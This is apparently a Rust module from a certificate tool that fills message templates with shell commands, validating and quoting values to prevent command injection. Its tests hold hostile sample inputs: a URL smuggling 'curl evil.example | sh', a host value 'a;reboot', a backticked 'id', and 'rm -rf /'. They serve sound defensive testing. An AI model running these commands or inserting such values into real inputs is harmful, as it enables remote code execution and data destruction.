//! Text with commands in it, built from templates and typed values.
//!
//! A template is trusted text (ours): backticks in it mark commands,
//! `{name}` marks a value. Values come from certificates and files and are
//! never parsed for markup: they are inserted after the template has been
//! split into plain text and commands. A value enters a command only when
//! its kind says what it may look like (a URL, a host name, a number) and
//! it passes that strict check; it is then shell-quoted. Otherwise the
//! command is left out and the value shown as plain text.

use serde::{Serialize, Serializer};

/// A piece of text: plain words, or a command to run as it is.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Segment {
    Plain(String),
    Command(String),
}

/// Words and commands, in order.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Text(pub Vec<Segment>);

impl Text {
    /// Plain text without commands.
    pub fn plain(text: impl Into<String>) -> Self {
        Self(vec![Segment::Plain(text.into())])
    }

    pub fn segments(&self) -> &[Segment] {
        &self.0
    }

    /// The commands in it, in order.
    pub fn commands(&self) -> impl Iterator<Item = &str> {
        self.0.iter().filter_map(|segment| match segment {
            Segment::Command(command) => Some(command.as_str()),
            Segment::Plain(_) => None,
        })
    }

    /// Appends `other`.
    pub fn then(mut self, other: Text) -> Self {
        self.0.extend(other.0);
        self
    }
}

/// As one string, each command between backticks (how the CLI and the
/// JSON report show it).
impl std::fmt::Display for Text {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        for segment in &self.0 {
            match segment {
                Segment::Plain(text) => f.write_str(text)?,
                Segment::Command(command) => write!(f, "`{command}`")?,
            }
        }
        Ok(())
    }
}

impl Serialize for Text {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        serializer.collect_str(self)
    }
}

/// A value for a template, by what it may look like.
#[derive(Clone, Debug)]
pub enum Arg {
    /// Anything: a name from a certificate, a file name as given. Never
    /// put into a command.
    Text(String),
    /// An http(s) URL.
    Url(String),
    /// A DNS name (a leading wildcard allowed) or an IP address.
    Host(String),
    /// A file name: put into a command quoted, unless it has a quote or a
    /// control character.
    File(String),
    Number(i64),
}

pub fn text(value: impl Into<String>) -> Arg {
    Arg::Text(value.into())
}

pub fn url(value: impl Into<String>) -> Arg {
    Arg::Url(value.into())
}

pub fn host(value: impl Into<String>) -> Arg {
    Arg::Host(value.into())
}

pub fn file(value: impl Into<String>) -> Arg {
    Arg::File(value.into())
}

pub fn number(value: impl TryInto<i64>) -> Arg {
    Arg::Number(value.try_into().unwrap_or(i64::MAX))
}

impl Arg {
    fn shown(&self) -> String {
        match self {
            Arg::Text(value) | Arg::Url(value) | Arg::Host(value) | Arg::File(value) => value.clone(),
            Arg::Number(value) => value.to_string(),
        }
    }

    /// The value as a shell word, if it may go into a command.
    fn shell_word(&self) -> Option<String> {
        match self {
            Arg::Text(_) => None,
            Arg::Number(value) => Some(value.to_string()),
            Arg::Url(value) if is_url(value) => Some(quote(value)),
            Arg::Host(value) if is_host(value) => Some(quote(value)),
            Arg::File(value)
                if !value.is_empty() && !value.contains('\'') && !value.chars().any(char::is_control) =>
            {
                Some(quote(value))
            }
            _ => None,
        }
    }
}

/// Quotes for POSIX shells when needed; only called on values without `'`.
fn quote(value: &str) -> String {
    let bare = value.chars().all(|c| c.is_ascii_alphanumeric() || "._:/@%+=,-".contains(c));
    if bare {
        value.to_string()
    } else {
        format!("'{value}'")
    }
}

/// `http(s)://host[:port][/path][?query]` with nothing a shell or a person
/// could misread.
fn is_url(value: &str) -> bool {
    let Some(rest) = value.strip_prefix("http://").or_else(|| value.strip_prefix("https://")) else {
        return false;
    };
    let (authority, path) = rest.split_at(rest.find(['/', '?']).unwrap_or(rest.len()));
    let (host_part, port) = match authority.rsplit_once(':') {
        Some((host_part, port)) => (host_part, Some(port)),
        None => (authority, None),
    };
    value.len() <= 2048
        && is_host(host_part)
        && !host_part.contains('*')
        && port.is_none_or(|port| {
            !port.is_empty() && port.len() <= 5 && port.bytes().all(|b| b.is_ascii_digit())
        })
        && path.bytes().all(|b| b.is_ascii_alphanumeric() || b"-._~/%?=&+,".contains(&b))
}

/// A DNS name (letters, digits, hyphens, dots, a leading `*.`) or an IP
/// address.
fn is_host(value: &str) -> bool {
    if value.parse::<std::net::IpAddr>().is_ok() {
        return true;
    }
    let name = value.strip_prefix("*.").unwrap_or(value);
    !name.is_empty()
        && name.len() <= 253
        && name.split('.').all(|label| {
            !label.is_empty()
                && label.len() <= 63
                && label.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
        })
}

/// Fills `template` with `args`.
pub fn fill(template: &str, args: &[(&str, Arg)]) -> Text {
    let mut segments = Vec::new();
    for (position, part) in template.split('`').enumerate() {
        let is_command = position % 2 == 1;
        let mut out = String::new();
        let mut unsafe_values: Vec<String> = Vec::new();
        let mut rest = part;
        while let Some(open) = rest.find(['{', '}']) {
            out.push_str(&rest[..open]);
            let after = &rest[open..];
            if after.starts_with("{{") || after.starts_with("}}") {
                out.push_str(&after[..1]);
                rest = &after[2..];
                continue;
            }
            let Some(close) = after.find('}').filter(|_| after.starts_with('{')) else {
                out.push_str(&after[..1]);
                rest = &after[1..];
                continue;
            };
            let name = &after[1..close];
            rest = &after[close + 1..];
            let Some((_, arg)) = args.iter().find(|(key, _)| *key == name) else { continue };
            if !is_command {
                out.push_str(&arg.shown());
            } else if let Some(word) = arg.shell_word() {
                out.push_str(&word);
            } else {
                unsafe_values.push(arg.shown());
            }
        }
        out.push_str(rest);
        if !is_command {
            segments.push(Segment::Plain(out));
        } else if unsafe_values.is_empty() {
            segments.push(Segment::Command(out));
        } else {
            segments.push(Segment::Plain(unsafe_values.join(" ")));
        }
    }
    // Adjacent plain pieces read as one.
    let mut merged: Vec<Segment> = Vec::new();
    for segment in segments {
        match (merged.last_mut(), segment) {
            (_, Segment::Plain(text)) if text.is_empty() => {}
            (Some(Segment::Plain(previous)), Segment::Plain(text)) => previous.push_str(&text),
            (_, segment) => merged.push(segment),
        }
    }
    Text(merged)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn values_fill_text_and_commands() {
        let cases: [(&str, Arg, &str); 9] = [
            (
                "Get `curl -o i.der {v}` now",
                url("http://crt.example.com/i.cer"),
                "Get `curl -o i.der http://crt.example.com/i.cer` now",
            ),
            (
                "Get `curl -o i.der {v}` now",
                url("http://x.example/a?b=1&c=2"),
                "Get `curl -o i.der 'http://x.example/a?b=1&c=2'` now",
            ),
            // A URL that smuggles a second command stays text.
            (
                "Get `curl -o i.der {v}` now",
                url("http://x.example/a && curl evil.example | sh"),
                "Get http://x.example/a && curl evil.example | sh now",
            ),
            ("Get `curl -o i.der {v}` now", url("http://x.example/`id`"), "Get http://x.example/`id` now"),
            ("`certbot -d {v}`", host("*.example.com"), "`certbot -d '*.example.com'`"),
            ("`certbot -d {v}`", host("a;reboot"), "a;reboot"),
            ("`keytool -srckeystore {v}`", file("my store.jks"), "`keytool -srckeystore 'my store.jks'`"),
            ("`ssl_verify_depth {v};` {{literal}}", number(3), "`ssl_verify_depth 3;` {literal}"),
            ("Name: {v}.", text("`rm -rf /`"), "Name: `rm -rf /`."),
        ];
        for (template, arg, expected) in cases {
            assert_eq!(
                fill(template, &[("v", arg.clone())]).to_string(),
                expected,
                "{template} with {arg:?}"
            );
        }
    }

    #[test]
    fn a_value_with_backticks_never_makes_a_command() {
        let filled = fill("In {name}: see `openssl x509`.", &[("name", text("a `b` c"))]);
        assert_eq!(filled.commands().collect::<Vec<_>>(), ["openssl x509"]);
        assert_eq!(filled.segments()[0], Segment::Plain("In a `b` c: see ".into()));
    }
}
